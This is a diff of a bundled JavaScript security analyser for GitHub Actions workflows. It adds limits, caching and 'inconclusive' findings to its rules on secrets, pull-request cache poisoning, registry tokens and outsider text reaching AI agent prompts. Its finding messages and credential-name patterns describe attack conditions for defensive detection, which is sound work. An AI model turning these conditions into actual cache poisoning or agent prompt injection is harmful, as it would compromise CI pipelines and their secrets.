 	const isHole = script.holes.some((hole) => hole.from <= value.from && hole.to > value.from);
 	return isHole ? undefined : (bare?.[1] ?? nameIn(value, script));
@@ -16625,6 +16706,7 @@ function writingScript(step, job) {
 
 
 
+
 /**
  * The taints of what workflows of the same repository hand to this one when they start it: an outsider's text is
  * an outsider's, though only a member could type it.
@@ -16634,7 +16716,13 @@ function ofDispatchers(name, { site, follow }) {
 	if (root === undefined || frame === undefined)
 		return [];
 	const wanted = { path: ['dispatched', name], as: 'text' };
-	return recall({ key: root, at: root.node }, { site, wanted }, () => hops_distinct(dispatchersOf(site.repository).flatMap((dispatcher) => ofDispatcher(dispatcher, { name, site, follow }))));
+	return recall({ key: root, at: root.node }, { site, wanted }, () => {
+		const { found, isCut } = dispatchersOf(site.repository);
+		const taints = hops_distinct(found.flatMap((one) => ofDispatcher(one, { name, site, follow })));
+		if (!isCut)
+			return taints;
+		return leftOut(taints, `${found.length} steps start workflows`, root.triggers[0]?.at ?? root.node);
+	});
 }
 function ofDispatcher(dispatcher, asked) {
 	const { run, step } = dispatcher;
@@ -16910,6 +16998,7 @@ function stepName({ step: { id, name } }) {
 
 
 
+
 /** The taints of the `env` context. */
 function ofEnv({ site, wanted, follow }) {
 	const [name] = wanted.path;
@@ -16987,10 +17076,20 @@ const maxWriters = 32;
 function fromScripts(name, site, follow) {
 	const variable = (one, at) => ofVariable(one, at, follow);
 	const lower = name?.toLowerCase() ?? '';
-	const isWanted = (step) => writesEnv(step) && scriptTextOf(step).toLowerCase().includes(lower);
-	return stepsBefore(site, isWanted)
-		.slice(-maxWriters)
-		.flatMap((writer) => ofWrites(writer, { file: 'env', name, site, follow, variable }));
+	const writers = stepsBefore(site, writesEnv).filter(({ step }) => loweredScript(step).includes(lower));
+	const near = writers.slice(-maxWriters);
+	const found = near.flatMap((writer) => ofWrites(writer, { file: 'env', name, site, follow, variable }));
+	const [first] = writers;
+	if (first === undefined || near.length === writers.length)
+		return found;
+	const what = `${maxWriters} steps before may set ${name === undefined ? 'variables' : quoted_quoted(name)}`;
+	return leftOut(hops_distinct(found), what, first.step.run ?? first.step.node);
+}
+const of_env_lowered = new WeakMap();
+function loweredScript(step) {
+	const known = of_env_lowered.get(step) ?? scriptTextOf(step).toLowerCase();
+	of_env_lowered.set(step, known);
+	return known;
 }
 /** The runner sets its own variables, and nobody else can. */
 function fromRunner(name, site, follow) {
@@ -17076,6 +17175,7 @@ function of_inputs_isNamed(key, name) {
 
 
 
+
 /** The taints of `matrix`: of its lists, and of the rows that `include` adds. */
 function ofMatrix(asking) {
 	const { run } = asking.site;
@@ -17085,11 +17185,9 @@ function ofMatrix(asking) {
 	const [name, ...rest] = asking.wanted.path;
 	const { as } = asking.wanted;
 	const site = jobSite(run, asking.site);
-	const found = waysOf(matrix, name, rest).flatMap(({ at, node, path }) => through(asking.follow.node(node, site, { path, as }), {
-		at,
-		message: name === undefined ? 'the matrix takes it' : `the matrix takes it as ${quoted_quoted(name)}`,
-	}));
-	return hops_distinct(found);
+	const message = name === undefined ? 'the matrix takes it' : `the matrix takes it as ${quoted_quoted(name)}`;
+	// The same for all steps of the job.
+	return recall({ key: matrix, at: matrix }, { site, wanted: asking.wanted }, () => hops_distinct(waysOf(matrix, name, rest).flatMap(({ at, node, path }) => through(asking.follow.node(node, site, { path, as }), { at, message }))));
 }
 function expressionOf(strategy) {
 	return strategy?.kind === 'scalar' ? strategy : undefined;
@@ -17113,12 +17211,11 @@ function waysOf(matrix, name, rest) {
 
 
 
+
 /** The taints of `needs.<job>.outputs`. */
 function ofNeeds(asking) {
 	const { run } = asking.site;
-	const needed = new Set(run?.job.needs.map(({ value }) => value.toLowerCase()));
-	const givers = run?.peers.filter(({ job }) => needed.has(job.id.toLowerCase())) ?? [];
-	return ofGivers(givers, asking);
+	return ofGivers(run === undefined ? [] : neededRuns(run), asking);
 }
 /** The same for `jobs.<job>.outputs`, which a called workflow's outputs are made of. */
 function ofJobs(asking) {
@@ -17286,14 +17383,25 @@ function of_action_worst(taints) {
 
 
 
+
 /** The taints of `steps.<id>.outputs`. */
 function ofSteps(asking) {
 	const [id, property, ...path] = asking.wanted.path;
 	if (property !== undefined && property !== 'outputs')
 		return [];
 	const wanted = { ...asking.wanted, path };
-	const writers = stepsBeside(asking.site, (step) => step.id !== undefined && (id === undefined || step.id.value.toLowerCase() === id));
-	return hops_distinct(writers.flatMap((writer) => ofWriter(writer, { ...asking, wanted })));
+	const writers = stepsBeside(asking.site, hasId).filter(({ step }) => id === undefined || step.id?.value.toLowerCase() === id);
+	const near = writers.slice(-of_steps_maxWriters);
+	const found = hops_distinct(near.flatMap((writer) => ofWriter(writer, { ...asking, wanted })));
+	const [first] = writers;
+	if (first === undefined || near.length === writers.length)
+		return found;
+	return leftOut(found, `${of_steps_maxWriters} steps have outputs`, first.step.id ?? first.step.node);
+}
+// `toJSON(steps)` of more is generated, and each of them could do the same.
+const of_steps_maxWriters = 32;
+function hasId({ id }) {
+	return id !== undefined;
 }
 function ofWriter(writer, asking) {
 	const { uses } = writer.step;
@@ -18233,7 +18341,14 @@ function entered({ text }, ground) {
 	const isEntered = names.some(([, path = '']) => path === ground.folder || path.startsWith(`${ground.folder}/`));
 	return isEntered ? { folder: undefined, trusted: [] } : ground;
 }
+const runs_workspace_cache = new WeakMap();
+/** The same in every run: what a step's shell is does not change. */
 function runs_workspace_linesOf(script) {
+	const known = runs_workspace_cache.get(script.at) ?? findLines(script);
+	runs_workspace_cache.set(script.at, known);
+	return known;
+}
+function findLines(script) {
 	const plain = script.isShell ? plainLines(script.text) : undefined;
 	return plain ?? commandsIn(script, () => true).lines;
 }
@@ -18336,6 +18451,8 @@ function toPullRequestRun(run, repository) {
 		return execution === undefined ? [] : [{ checkout, execution }];
 	});
 	const [{ checkout, execution } = pull_request_runs_none] = [
+		...found.filter((one) => one.checkout.isCertain && one.execution.isCertain),
+		...found.filter((one) => one.execution.isCertain),
 		...found.filter((one) => one.checkout.isCertain),
 		...found,
 	];
@@ -18347,9 +18464,10 @@ function toPullRequestRun(run, repository) {
 			...startHops(run),
 			...checkout.site.via,
 			{ at: checkout.at, message: 'fetches the code of a pull request' },
-			{ at: execution.at, message: 'runs it' },
+			{ at: execution.at, message: execution.isCertain ? 'runs it' : execution.what },
 		],
 		isCertain: checkout.isCertain,
+		isRun: execution.isCertain,
 	};
 }
 const pull_request_runs_none = { checkout: undefined, execution: undefined };
@@ -18388,15 +18506,17 @@ function rankOf({ severity, confidence = 'high' }, meta) {
 
 
 /** What is said of a job that runs a pull request's code and is not kept from writing the cache by its file. */
-function judgeRun({ run, chain, isCertain }, access, uses) {
+function judgeRun(found, access, uses) {
+	const { run, chain, isCertain, isRun } = found;
 	const saving = uses.find(({ saves }) => saves !== 'no');
 	const { severity, confidence } = gradeOf(access, { isCertain, saving });
 	const via = saving?.site?.via ?? [];
-	return finding(access.at ?? saving?.at ?? run.job.key, judge_run_messageFor(run.job.id, access, saving), {
-		severity,
+	const evidence = judge_run_evidenceFor(access, run.frame.scenario.event ?? '', saving);
+	return finding(access.at ?? saving?.at ?? run.job.key, judge_run_messageFor(found, access, saving), {
+		severity: isRun ? severity : 'medium',
 		confidence,
 		related: [...chain, ...via],
-		evidence: judge_run_evidenceFor(access, run.frame.scenario.event ?? '', saving),
+		evidence: isRun ? evidence : [...evidence, 'what follows may run it, or only read it'],
 	});
 }
 function gradeOf(access, { isCertain, saving }) {
@@ -18409,11 +18529,12 @@ function gradeOf(access, { isCertain, saving }) {
 		return { severity, confidence: isCertain ? 'medium' : 'low' };
 	return { severity, confidence: isCertain ? 'high' : 'medium' };
 }
-function judge_run_messageFor(id, { at, saves }, saving) {
-	const job = `${quoted_quoted(id)} runs the code of a pull request in the cache scope of the default branch`;
+function judge_run_messageFor({ run, isRun }, { at, saves }, saving) {
+	const does = `${quoted_quoted(run.job.id)} ${isRun ? 'runs' : 'may run'}`;
+	const job = `${does} the code of a pull request in the cache scope of the default branch`;
 	const todo = 'set "cache-mode: none", or "read", on the job';
 	if (at !== undefined) {
-		return `"cache-mode: ${at.value.trim()}" lets a pull request's code write the default branch's cache, which every other workflow restores: ${quoted_quoted(id)} runs that code; write "none", or "read"`;
+		return `"cache-mode: ${at.value.trim()}" lets a pull request's code write the default branch's cache, which every other workflow restores: ${does} that code; write "none", or "read"`;
 	}
 	if (saving !== undefined) {
 		return `${job}, and ${saving.name} saves what that code leaves behind for every other workflow to restore: ${todo}`;
@@ -19006,7 +19127,6 @@ function standsAt(node) {
 
 ;// CONCATENATED MODULE: ./packages/core/build/engine/finding.js
 const severities = ['high', 'medium', 'low', 'info'];
-const confidences = (/* unused pure expression or super */ null && (['high', 'medium', 'low']));
 
 ;// CONCATENATED MODULE: ./packages/core/build/engine/less-severe.js
 
@@ -19145,6 +19265,8 @@ function readCredential(timed, repository) {
 	if (persistence === 'none')
 		return undefined;
 	const version = actionVersion(step.uses, documentOf(owner, repository));
+	if (keepsNothing(action, version))
+		return undefined;
 	const asked = action.switch === null ? undefined : inputOf(step, action.switch);
 	return {
 		uses: step.uses,
@@ -19156,6 +19278,13 @@ function readCredential(timed, repository) {
 		asked: persistence === 'certain' ? asked : undefined,
 		isUncertain: persistence === 'uncertain',
 	};
+}
+/** A comment beside a commit is no proof that it is such an old one. */
+function keepsNothing(action, version) {
+	if (version === undefined || version.isClaimed)
+		return false;
+	const said = [version.major, version.minor].filter((part) => part !== undefined).join('.');
+	return action.keepsNothing?.includes(said) ?? false;
 }
 /**
  * Only `true`, in any case, keeps the credential; everything else, an empty value too, removes it.
@@ -20684,30 +20813,38 @@ function secretReads(scalar, isCondition = false) {
 	return contextReads(scalar, contexts, isCondition);
 }
 
-;// CONCATENATED MODULE: ./packages/core/build/analysis/secrets/secret-uses.js
+;// CONCATENATED MODULE: ./packages/core/build/analysis/secrets/every-secret-use.js
 
-const secret_uses_cache = new WeakMap();
-/**
- * Every use of the `secrets` context that concerns a job, in the order of the file: the workflow's `env`, the job's
- * own keys, its steps, what it hands to the workflow that it calls. `GITHUB_TOKEN` is one of them, `secrets: inherit`
- * is none (see `inheritedSecrets`). The steps of local actions have no such context.
- */
-function secretUses(job) {
-	const known = secret_uses_cache.get(job);
-	if (known !== undefined)
-		return known;
-	const found = mayUseSecrets(job.workflow.source) ? secret_uses_find(job) : [];
-	secret_uses_cache.set(job, found);
-	return found;
-}
-// An escape can spell any letter; GitHub compares names without regard to case.
-const secret_uses_spelled = new WeakMap();
-function mayUseSecrets(source) {
-	const known = secret_uses_spelled.get(source) ?? /secrets|\\[xuU]/i.test(source.text);
-	secret_uses_spelled.set(source, known);
+// Of 247 repositories no workflow has more than 48; one of its own `env` counts in each job.
+const maxUses = 1_000;
+const every_secret_use_cache = new WeakMap();
+function everySecretUse(workflow) {
+	const known = every_secret_use_cache.get(workflow) ?? findAll(workflow);
+	every_secret_use_cache.set(workflow, known);
 	return known;
 }
-function secret_uses_find(job) {
+function findAll(workflow) {
+	const byJob = new Map();
+	if (!mayUseSecrets(workflow.source))
+		return { byJob, cut: undefined };
+	let left = maxUses;
+	for (const job of workflow.jobs) {
+		const uses = every_secret_use_find(job);
+		byJob.set(job, uses.slice(0, left));
+		if (uses.length > left)
+			return { byJob, cut: job };
+		left -= uses.length;
+	}
+	return { byJob, cut: undefined };
+}
+// An escape can spell any letter; GitHub compares names without regard to case.
+const every_secret_use_spelled = new WeakMap();
+function mayUseSecrets(source) {
+	const known = every_secret_use_spelled.get(source) ?? /secrets|\\[xuU]/i.test(source.text);
+	every_secret_use_spelled.set(source, known);
+	return known;
+}
+function every_secret_use_find(job) {
 	const found = [];
 	for (const { key, value } of job.node.entries) {
 		if (key.value === 'steps')
@@ -20720,9 +20857,6 @@ function secret_uses_find(job) {
 	const shared = job.call === undefined ? sharedUses(job.workflow) : [];
 	return found.length === 0 ? shared : [...shared, ...found];
 }
-// A run has at most 100 secrets of each kind (organisation, repository, environment), and every job repeats these.
-// Source: https://docs.github.com/en/actions/reference/security/secrets
-const maxShared = 300;
 const sharedCache = new WeakMap();
 function sharedUses(workflow) {
 	const known = sharedCache.get(workflow);
@@ -20732,9 +20866,8 @@ function sharedUses(workflow) {
 	const slot = { kind: 'workflow-env', key: undefined, step: undefined };
 	if (workflow.env !== undefined)
 		visitEntries(workflow.env, slot, found);
-	const kept = found.slice(0, maxShared);
-	sharedCache.set(workflow, kept);
-	return kept;
+	sharedCache.set(workflow, found);
+	return found;
 }
 function kindOfJobKey(key) {
 	if (key === 'env')
@@ -20775,6 +20908,28 @@ function visitEntries(node, slot, found) {
 				found.push({ ...read, slot });
 		}
 	}
+}
+
+;// CONCATENATED MODULE: ./packages/core/build/analysis/secrets/secret-cuts.js
+
+/** The job, if any, from which on the uses of secrets in a workflow are too many to look at. */
+function secretCuts(workflow) {
+	const { cut } = everySecretUse(workflow);
+	if (cut === undefined)
+		return [];
+	return [{ at: cut.key, message: 'from here on there are too many uses of secrets to look at' }];
+}
+
+;// CONCATENATED MODULE: ./packages/core/build/analysis/secrets/secret-uses.js
+
+/**
+ * Every use of the `secrets` context that concerns a job, in the order of the file: the workflow's `env`, the job's
+ * own keys, its steps, what it hands to the workflow that it calls. `GITHUB_TOKEN` is one of them, `secrets: inherit`
+ * is none (see `inheritedSecrets`). The steps of local actions have no such context. For more than are looked at see
+ * `secretCuts`.
+ */
+function secretUses(job) {
+	return everySecretUse(job.workflow).byJob.get(job) ?? [];
 }
 
 ;// CONCATENATED MODULE: ./packages/core/build/facts/github-tokens.json
@@ -21258,9 +21413,13 @@ function inheritedSecrets({ call }) {
 
 
 
+
 /** The secrets that a job is given, its own token not among them: one hop a name. */
 function reachableSecrets(run) {
 	const found = new Map();
+	const { cut } = everySecretUse(run.job.workflow);
+	if (cut !== undefined)
+		run.budget.cut.add(cut);
 	for (const read of secretUses(run.job)) {
 		if (!found.has(read.name) && isGiven(read, run))
 			found.set(read.name, toHop(read));
@@ -21459,6 +21618,8 @@ function mayBeOwnToken({ name }, { workflow }, repository) {
 
 
 
+
+
 const broad_token_secret_rule_rule = {
 	meta: {
 		id: 'broad-token-secret',
@@ -21469,6 +21630,10 @@ const broad_token_secret_rule_rule = {
 		practices: ['P08', 'P29'],
 	},
 	check: {
+		*workflow(workflow) {
+			for (const { at, message } of secretCuts(workflow))
+				yield inconclusive(at, 'too-many', message);
+		},
 		*job(job, { repository }) {
 			if (isNever(job.if))
 				return;
@@ -21778,45 +21943,60 @@ function isOther(name) {
 
 
 
+
 /**
  * The secrets that an upload logs in with: those in its own reach, else those with which a step before it has
  * logged in. A job with an identity may need a token of the registry for reading only.
  */
 function storedTokens(upload, identity) {
 	const step = stored_tokens_outermost(upload.site).step;
-	const uses = byPlace(secretUses(upload.run.job).filter(isStored));
-	const own = uses.filter((use) => stored_tokens_isOwn(use, upload, step));
+	const { ofJob, ofSteps, byStep } = storedIn(upload.run.job);
+	const own = (byStep.get(step) ?? []).filter((use) => stored_tokens_isOwn(use, upload));
 	if (own.length > 0)
 		return own;
-	const shared = uses.filter((use) => isShared(use, upload));
+	const shared = ofJob.filter((use) => isNamedFor(use, upload.registry));
 	if (shared.length > 0)
 		return shared;
-	return uses.filter((use) => {
-		const isEarlier = use.slot.step !== undefined && use.at.start < step.node.start;
-		return isEarlier && use.slot.step !== step && isLogin(use, upload, identity);
-	});
+	const earlier = ofSteps.filter(({ slot, at }) => slot.step !== step && at.start < step.node.start);
+	if (earlier.length > maxEarlier)
+		upload.run.budget.cut.add(upload.run.job);
+	return earlier.slice(-maxEarlier).filter((use) => isLogin(use, upload, identity));
+}
+// Whoever logs in does so shortly before; a hostile job would have each of its uploads read all before it.
+const maxEarlier = 100;
+const stored_tokens_cache = new WeakMap();
+function storedIn(job) {
+	const known = stored_tokens_cache.get(job) ?? sorted(byPlace(secretUses(job).filter(isStored)));
+	stored_tokens_cache.set(job, known);
+	return known;
+}
+function sorted(uses) {
+	return {
+		ofJob: uses.filter(({ slot: { kind } }) => kind === 'job-env' || kind === 'workflow-env'),
+		ofSteps: uses.filter(({ slot }) => slot.step !== undefined),
+		byStep: groupedBy(uses, ({ slot }) => slot.step),
+	};
 }
 /** An alias brings the same secret in again. */
 function byPlace(uses) {
-	return uses.filter(({ at }, index) => uses.findIndex((other) => other.at.start === at.start) === index);
-}
-/** A variable of the whole job. */
-function isShared(use, { registry }) {
-	const { kind } = use.slot;
-	return (kind === 'job-env' || kind === 'workflow-env') && isNamedFor(use, registry);
+	const first = new Map();
+	for (const use of uses)
+		if (!first.has(use.at.start))
+			first.set(use.at.start, use);
+	return [...first.values()];
 }
 function stored_tokens_outermost(site) {
 	return site.user === undefined ? site : stored_tokens_outermost(site.user);
 }
-function stored_tokens_isOwn(use, upload, step) {
+function stored_tokens_isOwn(use, upload) {
 	const { kind, key } = use.slot;
-	if (use.slot.step !== step)
-		return false;
 	if (kind === 'with' && key !== undefined && isTokenInput(key.value, upload))
 		return true;
 	if (kind === 'step-env' && key !== undefined && isHandedOver(key.value, upload))
 		return true;
-	if (kind === 'run' && upload.site.step === step && /TOKEN|KEY|PASS|PAT$|CRED|AUTH/.test(use.name))
+	if (kind === 'run' &&
+		upload.site.step === use.slot.step &&
+		/TOKEN|KEY|PASS|PAT$|CRED|AUTH/.test(use.name))
 		return !/USER|SIGN|GPG/.test(use.name);
 	return isNamedFor(use, upload.registry);
 }
@@ -21887,25 +22067,27 @@ const indexActions = new Map(registries_namespaceObject.AG.map((one) => [one.act
 
 ;// CONCATENATED MODULE: ./packages/core/build/analysis/registries/variables-in.js
 
-const variables_in_cache = new WeakMap();
-/** The environment variables of a step, by `env` at every level; the innermost holds. */
-function variablesIn(site) {
-	const known = variables_in_cache.get(site);
-	if (known !== undefined)
-		return known;
-	const found = new Map();
-	for (const env of variables_in_levelsOf(site)) {
-		for (const { key, value } of entriesOf(env))
-			if (value.kind === 'scalar')
-				found.set(key.value, value);
-	}
-	variables_in_cache.set(site, found);
-	return found;
+/** The environment variables of a step, the innermost `env` that has some first; of one name the first holds. */
+function variablesIn({ step, user, frame }) {
+	const outer = user === undefined ? ofJob(frame.job) : variablesIn(user);
+	const own = variablesOf(step.env);
+	return own.size === 0 ? outer : [own, ...outer];
 }
-/** The workflow first, the step last; the steps around it that use composite actions between. */
-function variables_in_levelsOf({ step, user, frame }) {
-	const outer = user === undefined ? [frame.job.workflow.env, frame.job.env] : variables_in_levelsOf(user);
-	return [...outer, step.env];
+function ofJob({ env, workflow }) {
+	return [variablesOf(env), variablesOf(workflow.env)].filter(({ size }) => size > 0);
+}
+// One of a workflow is that of all its jobs.
+const variables_in_cache = new WeakMap();
+const variables_in_none = new Map();
+function variablesOf(env) {
+	if (env === undefined)
+		return variables_in_none;
+	const known = variables_in_cache.get(env) ?? toVariables(env);
+	variables_in_cache.set(env, known);
+	return known;
+}
+function toVariables(env) {
+	return new Map(entriesOf(env).flatMap(({ key, value }) => value.kind === 'scalar' ? [[key.value, value]] : []));
 }
 
 ;// CONCATENATED MODULE: ./packages/core/build/analysis/registries/index-of.js
@@ -21958,15 +22140,27 @@ function byOptions({ indexOptions }, args) {
 }
 function byDefault(registry, where) {
 	const variables = variablesIn(where.site);
-	const named = registry.indexVariables.flatMap((name) => variables.get(name)?.value ?? []);
+	const named = registry.indexVariables.flatMap((name) => held(name, variables)?.value ?? []);
 	if (isGitHubs(registry, variables))
 		return 'other';
 	return told(registry, named) ?? told(registry, byEarlierStep(registry, where)) ?? 'public';
 }
 /** The job's own token is good for GitHub's own registry only. */
 function isGitHubs({ tokens }, variables) {
-	return [...variables].some(([name, { value }]) => tokens.test(name.toUpperCase()) &&
-		/^\s*\$\{\{\s*(?:github\.token|secrets\.GITHUB_TOKEN)\s*\}\}\s*$/i.test(value));
+	return variables.some((level) => tokensIn(level, tokens).some(([name, value]) => held(name, variables) === value && isOwnToken.test(value.value)));
+}
+const isOwnToken = /^\s*\$\{\{\s*(?:github\.token|secrets\.GITHUB_TOKEN)\s*\}\}\s*$/i;
+function held(name, variables) {
+	return variables.find((level) => level.has(name))?.get(name);
+}
+const tokensKnown = new WeakMap();
+/** The variables of one level that are named like tokens of a registry. */
+function tokensIn(level, pattern) {
+	const known = tokensKnown.get(level) ?? new Map();
+	tokensKnown.set(level, known);
+	const found = known.get(pattern) ?? [...level].filter(([name]) => pattern.test(name.toUpperCase()));
+	known.set(pattern, found);
+	return found;
 }
 /** The last action before it that sets the index for the rest of the job. */
 function byEarlierStep({ name }, { site, run, repository }) {
@@ -22083,12 +22277,18 @@ function isFor(use, registry, { job }) {
 }
 /** What is published with it is seen, and goes elsewhere. */
 function isDecided({ slot: { step } }, { what }, job) {
-	const steps = step === undefined ? job.steps : [step];
-	return steps.some((one) => publishedBy(one, job).some((said) => what.includes(said)));
+	const said = step === undefined ? publishedIn(job) : publishedBy(step, job);
+	return said.some((one) => what.includes(one));
 }
 /** `semantic-release`, GoReleaser, `npm run release`: what they publish, their configuration says. */
 function publishesManyThings(step, job) {
 	return publishedBy(step, job).some((what) => what === 'publishes a GitHub release' || what === 'runs a script that by its name publishes');
+}
+const stray_tokens_cache = new WeakMap();
+function publishedIn(job) {
+	const known = stray_tokens_cache.get(job) ?? [...new Set(job.steps.flatMap((step) => publishedBy(step, job)))];
+	stray_tokens_cache.set(job, known);
+	return known;
 }
 function publishedBy(step, job) {
 	const publisher = publishers.get(actionName(step.uses) ?? '');
@@ -22153,6 +22353,7 @@ function onlyItsName({ slot }) {
 
 
 
+
 const rule_meta = {
 	id: 'long-lived-registry-token',
 	guard: 'secrets-guard',
@@ -22164,6 +22365,10 @@ const rule_meta = {
 const long_lived_registry_token_rule_rule = {
 	meta: rule_meta,
 	check: {
+		*workflow(workflow) {
+			for (const { at, message } of secretCuts(workflow))
+				yield inconclusive(at, 'too-many', message);
+		},
 		*repository(repository) {
 			const every = everyRun(repository);
 			const verdicts = every.runs.flatMap((run) => long_lived_registry_token_rule_judge(run, repository));
@@ -22195,6 +22400,7 @@ function secretUsesIn({ jobs }) {
 
 
 
+
 const overprovisioned_secrets_rule_rule = {
 	meta: {
 		id: 'overprovisioned-secrets',
@@ -22206,6 +22412,8 @@ const overprovisioned_secrets_rule_rule = {
 	},
 	check: {
 		*workflow(workflow) {
+			for (const { at, message } of secretCuts(workflow))
+				yield inconclusive(at, 'too-many', message);
 			for (const use of secretUsesIn(workflow)) {
 				if (use.kind === 'named')
 					continue;
@@ -22316,11 +22524,11 @@ function carried_secrets_worst(found) {
 	const carried = found.filter((one) => one !== undefined);
 	return carried.find(({ name }) => name !== tokenName) ?? carried[0];
 }
-const asked = new WeakMap();
+const carried_secrets_asked = new WeakMap();
 /** One answer for an action; none while it is looked for, since actions can use each other in a circle. */
 function once(action, question, answer) {
-	const answers = asked.get(action) ?? new Map();
-	asked.set(action, answers);
+	const answers = carried_secrets_asked.get(action) ?? new Map();
+	carried_secrets_asked.set(action, answers);
 	if (answers.has(question))
 		return answers.get(question);
 	answers.set(question, undefined);
@@ -22631,6 +22839,7 @@ function removalFix({ node }) {
 
 
 
+
 const secrets_inherit_rule_rule = {
 	meta: {
 		id: 'secrets-inherit',
@@ -22641,6 +22850,10 @@ const secrets_inherit_rule_rule = {
 		practices: ['P08'],
 	},
 	check: {
+		*workflow(workflow) {
+			for (const { at, message } of secretCuts(workflow))
+				yield inconclusive(at, 'too-many', message);
+		},
 		*job(job, { repository }) {
 			const inherit = inheritedSecrets(job);
 			if (job.call === undefined || inherit === undefined)
@@ -22734,10 +22947,11 @@ function calleeOf({ call }, repository) {
 ;// CONCATENATED MODULE: ./packages/core/build/rules/secrets-outside-env/is-credential.js
 /**
  * Whether a secret of this name may open something. Many repositories keep what tells only who or where among their
- * secrets (`DOCKERHUB_USERNAME`, `AZURE_CLIENT_ID`); a URL may well be a webhook, which is a credential.
+ * secrets (`DOCKERHUB_USERNAME`, `AZURE_CLIENT_ID`), or the password of a keychain that the job itself makes; a URL
+ * may well be a webhook, which is a credential.
  */
 function isCredential(name) {
-	return !/(?:^|_)(?:USER|USERNAME|(?<!SONAR_)LOGIN|EMAIL|NAME|REGION|BUCKET|HOST|DOMAIN|REGISTRY|ARN|ROLE|ROLE_TO_ASSUME|TEAM|IDENTITY|(?:APP|CLIENT|TEAM|TENANT)?ID)$/.test(name.replace(/SESSION_?ID$/, 'SESSION'));
+	return !/(?:^|_)(?:KEYCHAIN_PASSWORD|USER|USERNAME|(?<!SONAR_)LOGIN|EMAIL|NAME|REGION|BUCKET|HOST|DOMAIN|REGISTRY|ARN|ROLE|ROLE_TO_ASSUME|TEAM|IDENTITY|(?:APP|CLIENT|TEAM|TENANT)?ID)$/.test(name.replace(/SESSION_?ID$/, 'SESSION'));
 }
 
 ;// CONCATENATED MODULE: ./packages/core/build/rules/secrets-outside-env/grade-of.js
@@ -22767,17 +22981,23 @@ function name_of_nameOf({ kind, name, expression }) {
 
 
 
-/** What a job does that others rely on: it publishes, or can write what others run; undefined when neither is certain. */
-function power_of_powerOf(job, repository) {
-	if (!power_of_cache.has(job))
-		power_of_cache.set(job, power_of_publishedBy(job, repository) ?? writtenBy(job));
-	return power_of_cache.get(job);
+/**
+ * What a job does that others rely on: it publishes, or can write what others run; undefined when neither is certain.
+ * Called workflows do what their inputs say, so that only the runs below the caller count.
+ */
+function power_of_powerOf(job, repository, caller = job) {
+	const known = power_of_cache.get(caller) ?? new WeakMap();
+	power_of_cache.set(caller, known);
+	if (!known.has(job))
+		known.set(job, power_of_publishedBy(job, repository, caller) ?? writtenBy(job));
+	return known.get(job);
 }
 const power_of_cache = new WeakMap();
-function power_of_publishedBy(job, repository) {
+function power_of_publishedBy(job, repository, caller) {
 	if (!mayPublishIn(job, repository))
 		return undefined;
 	return (runsByJob(repository).get(job) ?? [])
+		.filter((run) => isBelow(run, caller))
 		.flatMap((run) => publicationsIn(run, repository))
 		.find(({ isCertain }) => isCertain)?.hops;
 }
@@ -22786,6 +23006,13 @@ function runsByJob(repository) {
 	const known = runs.get(repository) ?? groupedBy(everyRun(repository).runs, ({ job }) => job);
 	runs.set(repository, known);
 	return known;
+}
+function isBelow(run, caller) {
+	for (let one = run; one !== undefined; one = one.caller) {
+		if (one.job === caller)
+			return true;
+	}
+	return false;
 }
 function writtenBy(job) {
 	const permissions = effectivePermissions(job);
@@ -22844,7 +23071,7 @@ function* judge_calls_judge(job, uses, asked) {
 		: uses.flatMap(({ slot }) => usesBehind(callee, slot.key?.value ?? '', asked.repository));
 	const outside = behind.filter((one) => environmentOf(one.job) === 'never');
 	const power = [job, ...outside.map((one) => one.job)]
-		.map((one) => power_of_powerOf(one, asked.repository))
+		.map((one) => power_of_powerOf(one, asked.repository, job))
 		.find((hops) => hops);
 	const isInside = behind.length > 0 && outside.length === 0;
 	yield finding(first.at, judge_calls_messageFor(first, job), {
@@ -22959,6 +23186,8 @@ function heirsOf(workflow, repository) {
 
 
 
+
+
 const secrets_outside_env_rule_rule = {
 	meta: {
 		id: 'secrets-outside-env',
@@ -22976,6 +23205,8 @@ const secrets_outside_env_rule_rule = {
 			const asked = { repository, origin, allowed: new Set(policy.allowedSecrets) };
 			yield* judgeJobs(workflow, asked);
 			yield* judgeCalls(workflow, asked);
+			for (const { at, message } of secretCuts(workflow))
+				yield inconclusive(at, 'too-many', message);
 		},
 	},
 };
@@ -23008,6 +23239,7 @@ function isPart(outer, inner) {
 
 
 
+
 const unredacted_secrets_rule_rule = {
 	meta: {
 		id: 'unredacted-secrets',
@@ -23019,6 +23251,8 @@ const unredacted_secrets_rule_rule = {
 	},
 	check: {
 		*workflow(workflow) {
+			for (const { at, message } of secretCuts(workflow))
+				yield inconclusive(at, 'too-many', message);
 			for (const use of secretUsesIn(workflow)) {
 				const part = parsedPart(use);
 				if (part === undefined || !passesOn(use.tree, use.around))
@@ -23169,6 +23403,7 @@ function unseenToken(upload, isManual) {
 
 
 
+
 const use_trusted_publishing_rule_meta = {
 	id: 'use-trusted-publishing',
 	guard: 'secrets-guard',
@@ -23180,6 +23415,10 @@ const use_trusted_publishing_rule_meta = {
 const use_trusted_publishing_rule_rule = {
 	meta: use_trusted_publishing_rule_meta,
 	check: {
+		*workflow(workflow) {
+			for (const { at, message } of secretCuts(workflow))
+				yield inconclusive(at, 'too-many', message);
+		},
 		*repository(repository) {
 			const every = everyRun(repository);
 			const verdicts = every.runs.flatMap((run) => use_trusted_publishing_rule_judge(run, repository));
@@ -23246,6 +23485,7 @@ function agents_by_action_byAction(step) {
 	const opened = agent.gate?.map((name) => inputOf(step, name)).find(isOpen);
 	const starters = agent.gate === undefined ? 'unasked' : opened ? 'anybody' : 'members';
 	return {
+		kind: 'action',
 		at: uses.at,
 		name: agent.action,
 		prompts: agent.prompts.flatMap((name) => inputOf(step, name) ?? []),
@@ -23281,6 +23521,7 @@ function agents_by_script_byScript(step, job) {
 	if (agent === undefined)
 		return undefined;
 	return {
+		kind: 'script',
 		at: step.run,
 		name: programName(agent[0] ?? ''),
 		prompts: [step.run],
@@ -23329,7 +23570,7 @@ function feedOf(agent, isOpen) {
 	const spot = { repository, run, step: site };
 	const taints = [
 		...use.prompts.flatMap((prompt) => taintsOf(prompt, spot)),
-		...use.prompts.flatMap((prompt) => inVariables(prompt.value, spot)),
+		...(use.kind === 'script' ? use.prompts.flatMap(({ value }) => inVariables(value, spot)) : []),
 	].filter(({ author }) => author === 'outsider');
 	const taint = taints.find(({ doubts }) => doubts.length === 0) ?? taints[0];
 	if (taint !== undefined)
@@ -23457,8 +23698,14 @@ const may_say_known = new WeakMap();
 function inFile(source, pattern) {
 	const ofPattern = may_say_known.get(pattern) ?? new WeakMap();
 	may_say_known.set(pattern, ofPattern);
-	const answer = ofPattern.get(source) ?? may_say_isIn(source.text, pattern);
